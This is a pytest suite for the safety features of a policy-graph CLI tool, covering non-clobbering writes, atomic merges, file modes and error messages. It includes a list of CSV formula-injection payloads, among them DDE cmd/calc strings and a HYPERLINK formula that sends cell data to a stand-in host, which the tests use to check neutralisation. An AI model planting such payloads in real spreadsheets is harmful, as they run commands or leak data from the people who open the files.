"""Writes never clobber a dataset, merges are whole, hostile cells stay text, files get
the modes any program's would, and failures are one line (safety.py)."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from conftest import SEEDS, TINY, write_dataset
from inklusionsgraf.cli import cli
from inklusionsgraf.safety import JOURNAL, temporary_name

EXE = [sys.executable, "-m", "inklusionsgraf.cli"]


def run(*args, data=None):
    prefix = ["--data", str(data)] if data is not None else []
    return CliRunner().invoke(cli, ["--lang", "en", *prefix, *map(str, args)])  # messages in English


def snapshot(directory: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file()}


def assert_refused(result, *words):
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit), result.exception
    for word in words:
        assert word in result.stderr, result.stderr


# --- 1. writes never clobber what they should not -----------------------------------------

def test_extract_refuses_a_dataset_folder_unless_forced(tiny_dir, tmp_path):
    plan = shutil.copy(sorted(SEEDS.glob("*.txt"))[0], tmp_path / "plan.txt")
    before = snapshot(tiny_dir)
    result = run("extract", plan, "-o", tiny_dir)
    assert_refused(result, "holds a dataset", "--force", "nothing was written")
    assert snapshot(tiny_dir) == before
    forced = run("extract", plan, "-o", tiny_dir, "--force")
    assert forced.exit_code in (0, 1), forced.output
    assert snapshot(tiny_dir) != before


def test_extract_rewrites_its_own_output_but_not_a_reviewed_one(tmp_path):
    plan = sorted(SEEDS.glob("*.txt"))[0]
    out = tmp_path / "extracted"
    assert run("extract", plan, "-o", out).exit_code == 0
    assert run("extract", plan, "-o", out).exit_code == 0  # its own, unchanged output
    with open(out / "goals.csv", "a", encoding="utf-8") as handle:
        handle.write("\n")
    before = snapshot(out)
    assert_refused(run("extract", plan, "-o", out), "goals.csv was changed since")
    assert snapshot(out) == before
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    (out / "goals.csv").unlink()
    assert_refused(run("extract", plan, "-o", out), "holds notes.txt")


@pytest.mark.parametrize("command", [
    ("report", "orphans", "-o"), ("report", "unfunded", "-o"), ("export", "--format", "json", "-o"),
    ("view", "-o")])
@pytest.mark.parametrize("table", ["goals.csv", "supports.csv", "documents.csv", "corrections.csv"])
def test_no_output_lands_on_a_table_of_a_dataset(tiny_dir, command, table):
    before = snapshot(tiny_dir)
    result = run(*command, tiny_dir / table, data=tiny_dir)
    assert_refused(result, f"{table} is a table of the dataset", "nothing was written")
    assert snapshot(tiny_dir) == before
    assert [p.name for p in tiny_dir.iterdir() if p.name.startswith(".")] == []


def test_a_missing_folder_is_created_with_a_note(tiny_dir, tmp_path):
    out = tmp_path / "a" / "b" / "graph.json"
    result = run("export", "-o", out, data=tiny_dir)
    assert result.exit_code == 0
    assert f"note: created the folder {tmp_path / 'a'}" in result.stderr
    assert out.is_file()
    again = run("export", "-o", out, data=tiny_dir)
    assert "note:" not in again.stderr


# --- 2. a merge is whole or nothing ------------------------------------------------------

def _extraction(tmp_path) -> Path:
    changed = json.loads(json.dumps(TINY))
    changed["goals"][0]["title"] = "Flere i arbejde og uddannelse"
    changed["areas"].append({"id": "area:ny", "title": "Nyby", "type": "site", "document": "plan.txt",
                             "line": 19, "quote": "citat"})
    return write_dataset(tmp_path / "extracted", changed)


def test_a_merge_killed_while_switching_is_detected_and_completed(tiny_dir, tmp_path):
    extracted = _extraction(tmp_path)
    whole = shutil.copytree(tiny_dir, tmp_path / "whole")
    assert run("merge", extracted, "--into", whole).exit_code == 0
    env = {**os.environ, "INKLUSIONSGRAF_KILL_AT": "switch:2"}
    killed = subprocess.run([*EXE, "merge", str(extracted), "--into", str(tiny_dir)], env=env,
                            capture_output=True, text=True)
    assert killed.returncode == -9
    assert (tiny_dir / JOURNAL).is_file()
    for args in (("validate",), ("gaps", "orphans")):
        result = run(*args, data=tiny_dir)
        assert_refused(result, "a merge was stopped while switching", f"inklusionsgraf recover {tiny_dir}")
    recovered = run("recover", tiny_dir)
    assert recovered.exit_code == 0 and "completed the merge" in recovered.stderr
    assert snapshot(tiny_dir) == snapshot(whole)
    assert sorted(p.name for p in tiny_dir.iterdir() if p.name.startswith(".")) == []
    assert run("validate", data=tiny_dir).exit_code == 0


def test_the_next_merge_completes_a_killed_one_first(tiny_dir, tmp_path):
    extracted = _extraction(tmp_path)
    env = {**os.environ, "INKLUSIONSGRAF_KILL_AT": "switch:5"}
    subprocess.run([*EXE, "merge", str(extracted), "--into", str(tiny_dir)], env=env, capture_output=True)
    result = run("merge", extracted, "--into", tiny_dir)
    assert result.exit_code == 0, result.output
    assert run("validate", data=tiny_dir).exit_code == 0
    assert "Flere i arbejde og uddannelse" in (tiny_dir / "goals.csv").read_text(encoding="utf-8")


def test_a_locked_dataset_stops_the_second_writer_with_a_message(tiny_dir, tmp_path):
    from inklusionsgraf.safety import locked

    extracted = _extraction(tmp_path)
    before = snapshot(tiny_dir)
    with locked(tiny_dir):
        env = {**os.environ, "INKLUSIONSGRAF_LOCK_WAIT": "0.3", "INKLUSIONSGRAF_LANG": "en"}
        result = subprocess.run([*EXE, "merge", str(extracted), "--into", str(tiny_dir)], env=env,
                                capture_output=True, text=True)
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and "being changed by another inklusionsgraf" in result.stderr
    assert "Traceback" not in result.stderr
    assert snapshot(tiny_dir) == before


# --- 3. no leftovers ---------------------------------------------------------------------

def test_stale_temporaries_of_dead_processes_are_removed_live_ones_kept(tiny_dir, tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True,
                          text=True).stdout.strip()
    stale = tmp_path / f".graph.json.{dead}.0badcafe.tmp"
    stale.write_text("half")
    stale_dir = tmp_path / f".synth.{dead}.deadbeef.tmp"
    stale_dir.mkdir()
    live = temporary_name(tmp_path / "graph.json")  # this process's: it is alive
    live.write_text("in use")
    assert run("export", "-o", tmp_path / "graph.json", data=tiny_dir).exit_code == 0
    assert not stale.exists() and not stale_dir.exists()
    assert live.exists()


def test_two_writers_use_different_temporary_names(tmp_path):
    names = {temporary_name(tmp_path / "x.csv") for _ in range(100)}
    assert len(names) == 100 and all(str(os.getpid()) in n.name for n in names)


def test_synth_leaves_nothing_when_it_fails(tmp_path):
    script = ("import resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000)); "
              "from inklusionsgraf.cli import main; sys.argv[1:] = sys.argv[1:]; main()")
    result = subprocess.run([sys.executable, "-c", script, "synth", "-o", str(tmp_path / "s"), "--nodes", "5000"],
                            capture_output=True, text=True, env={**os.environ, "INKLUSIONSGRAF_LANG": "en"})
    assert result.returncode == 2
    assert result.stderr.startswith("error: ") and "File too large" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert list(tmp_path.iterdir()) == []


# --- 4. hostile cells ------------------------------------------------------------------

# goals pol-1, pol-2, pol-3, sub-a, sub-b, sub-c of the tiny policy (tab and CR at the start
# of a cell are stripped when a table is read; neutralise() itself is tested below)
HOSTILE = ["\t=1+1", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', "-1+1",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\r=2+2"]


def _hostile_dataset(tmp_path) -> Path:
    tables = json.loads(json.dumps(TINY))
    for goal, title in zip(tables["goals"], HOSTILE):
        goal["title"] = title
    return write_dataset(tmp_path / "hostile", tables)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_formula_cells_are_neutralised_in_csv_and_raw_in_json(tmp_path):
    data = _hostile_dataset(tmp_path)
    cells = []
    for which in ("orphans", "unfunded"):
        out = tmp_path / f"{which}.csv"
        assert run("report", which, "-o", out, data=data).exit_code == 0
        cells += _cells(out.read_text(encoding="utf-8"))
    for args in (("gaps", "orphans"), ("gaps", "unfunded"), ("admin", "AF"), ("admin", "BF")):
        result = run(*args, "--format", "csv", data=data)
        assert result.exit_code == 0
        cells += _cells(result.stdout)
    assert {"'" + t.strip() for t in HOSTILE[1:]} <= set(cells)
    assert [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r", "-")] == []
    raw = run("gaps", "unfunded", "--format", "json", data=data).stdout
    assert {row["title"] for row in json.loads(raw)["rows"]} == {HOSTILE[1], HOSTILE[2], HOSTILE[4], "=2+2"}


def test_only_cells_a_spreadsheet_would_evaluate_are_neutralised():
    from inklusionsgraf.safety import neutralise

    values = ("-5", "+3,5", "-0.25", "-", "-x", "\t1", "\r=1", "a=b", "", 5, None)
    assert [neutralise(v) for v in values] == ["-5", "+3,5", "-0.25", "'-", "'-x", "'\t1", "'\r=1", "a=b", "",
                                                5, None]


# --- 5. modes ------------------------------------------------------------------------------

def _in_umask(mask: int, *args, cwd=None):
    return subprocess.run([*EXE, *map(str, args)], preexec_fn=lambda: os.umask(mask), cwd=cwd,
                          capture_output=True, text=True)


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_new_files_get_0666_less_the_umask(tiny_dir, tmp_path, mask):
    out = tmp_path / "out"
    out.mkdir()
    assert _in_umask(mask, "--data", tiny_dir, "export", "-o", out / "g.json").returncode == 0
    assert _in_umask(mask, "--data", tiny_dir, "report", "orphans", "-o", out / "r.csv").returncode == 0
    assert _in_umask(mask, "synth", "-o", out / "s", "--nodes", 100).returncode == 0
    plan = sorted(SEEDS.glob("*.txt"))[0]
    assert _in_umask(mask, "extract", plan, "-o", out / "x").returncode == 0
    files = [out / "g.json", out / "r.csv", out / "s" / "goals.csv", out / "x" / "goals.csv"]
    assert {p.name: _mode(p) for p in files} == {p.name: 0o666 & ~mask for p in files}
    assert _mode(out / "s") == 0o777 & ~mask


@pytest.mark.parametrize("mask", [0o022, 0o077])
def test_a_replaced_file_keeps_its_mode(tiny_dir, tmp_path, mask):
    report = tmp_path / "r.md"
    report.write_text("old")
    report.chmod(0o664)
    for table in tiny_dir.glob("*.csv"):
        table.chmod(0o664)
    assert _in_umask(mask, "--data", tiny_dir, "report", "orphans", "-o", report).returncode == 0
    assert _in_umask(mask, "merge", _extraction(tmp_path), "--into", tiny_dir).returncode == 0
    assert _mode(report) == 0o664 and report.read_text() != "old"
    assert {_mode(t) for t in tiny_dir.glob("*.csv")} == {0o664}


# --- 6. every failure is a message -------------------------------------------------------

def _as_nobody(*args) -> tuple[int, str]:
    """Run the CLI as a user who cannot read what root can (or as ourselves, if not root):
    in a forked child of this process, whose imports are done (root's Python is not
    readable to that user); its exit status and stderr."""
    import inklusionsgraf.build, inklusionsgraf.export, inklusionsgraf.queries  # noqa: F401

    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: never returns into pytest
        try:
            os.close(read)
            if os.geteuid() == 0:
                os.setgid(65534)
                os.setuid(65534)
            result = CliRunner().invoke(cli, ["--lang", "en", *map(str, args)])
            os.write(write, json.dumps([result.exit_code, result.stderr]).encode("utf-8"))
        finally:
            os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as handle:
        data = handle.read()
    os.waitpid(pid, 0)
    code, stderr = json.loads(data)
    return code, stderr


@pytest.fixture
def shared_tmp():
    folder = Path(tempfile.mkdtemp(prefix="inklusionsgraf-test-", dir="/tmp"))
    folder.chmod(0o777)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def test_unreadable_tables_and_folders_are_messages(shared_tmp):
    data = write_dataset(shared_tmp / "data", TINY)
    data.chmod(0o755)
    for table in data.iterdir():
        table.chmod(0o644)
    (data / "goals.csv").chmod(0o000)
    code, stderr = _as_nobody("--data", data, "validate")
    assert code == 2 and "Traceback" not in stderr
    assert f"{data / 'goals.csv'}:0: cannot read the table: Permission denied" in stderr
    data.chmod(0o000)
    code, stderr = _as_nobody("--data", data, "gaps", "orphans")
    assert code == 2 and "Traceback" not in stderr
    assert f"'{data}' is not readable" in stderr
    data.chmod(0o755)
    (data / "goals.csv").chmod(0o644)
    out = shared_tmp / "ro"
    out.mkdir(mode=0o555)
    code, stderr = _as_nobody("--data", data, "export", "-o", out / "g.json")
    assert code == 2 and "Traceback" not in stderr
    assert stderr.startswith("error: ") and "Permission denied" in stderr and str(out) in stderr
    code, stderr = _as_nobody("merge", data, "--into", data)  # cannot lock a folder it cannot write
    assert code == 2 and stderr.startswith("error: ") and "Permission denied" in stderr


@pytest.mark.parametrize("args, words", [
    (("view", "--year", "12345678901234567890"), "not in the range 1900<=x<=2100"),
    (("gaps", "unfunded", "--backend", "neo4j", "--uri", "bolt://[::1"), "not a valid Bolt address"),
    (("synth", "-o", "x", "--nodes", "10" * 20), "--nodes must be between"),
])
def test_absurd_values_are_messages(tmp_path, args, words):
    result = subprocess.run([*EXE, *args], capture_output=True, text=True, cwd=tmp_path)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert words in result.stderr, result.stderr


# --- 8. UTF-16 -----------------------------------------------------------------------------

@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_a_utf16_document_says_to_save_it_as_utf8(tmp_path, encoding):
    seed = sorted(SEEDS.glob("*.txt"))[0]
    document = tmp_path / "plan.txt"
    document.write_bytes(seed.read_text(encoding="utf-8").encode(encoding))
    result = run("extract", document, "-o", tmp_path / "out")
    assert result.exit_code == 1
    assert "plan.txt:1: UTF-16 text; save it as UTF-8" in result.stderr


def test_extract_says_what_it_reads_when_the_input_is_large(tmp_path, monkeypatch):
    import inklusionsgraf.extract.progress

    seeds = sorted(SEEDS.glob("*.txt"))[:2]
    quiet = run("extract", *seeds, "-o", tmp_path / "a")
    assert "extract:" not in quiet.stderr
    total = sum(s.stat().st_size for s in seeds)
    monkeypatch.setattr(inklusionsgraf.extract.progress, "LARGE", total - 1)
    result = run("extract", *seeds, "-o", tmp_path / "b")
    lines = result.stderr.splitlines()
    assert lines[0] == f"extract: reading 1/2: {seeds[0]} ({seeds[0].stat().st_size / 1e6:.1f} MB)"
    assert any(line.startswith(f"extract: reading 2/2: {seeds[1]} ") for line in lines)
    # the whole input read, before the tables are written
    assert lines.index(f"extract: {total / 1e6:.1f} of {total / 1e6:.1f} MB") < len(lines) - 1
